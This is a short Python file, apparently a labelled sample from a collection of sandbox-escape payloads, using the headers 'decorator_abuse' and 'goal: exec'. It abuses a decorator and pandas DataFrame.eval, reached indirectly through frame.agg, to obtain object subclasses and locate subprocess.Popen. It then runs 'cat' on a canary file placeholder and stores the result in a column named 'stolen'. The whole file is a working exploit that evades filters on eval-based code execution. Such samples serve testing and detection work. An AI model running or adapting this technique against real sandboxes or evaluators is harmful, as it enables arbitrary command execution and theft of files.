# class: decorator_abuse
# technique: @(lambda fn: ev(fn())) — the decorated function returns expression text that DataFrame.eval runs at definition time (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)

u = "_" * 2



@(lambda fn: ev(fn(), o=[object]))
def classes():
    return "@o[0]." + u + "subclasses" + u + "()"


popen_cls = [c for c in classes if str(c).endswith("Popen'>")][0]
df = pd.DataFrame({"stolen": [popen_cls(["cat", "{{CANARY_FILE}}"], stdout=-1).communicate()[0].decode()]})
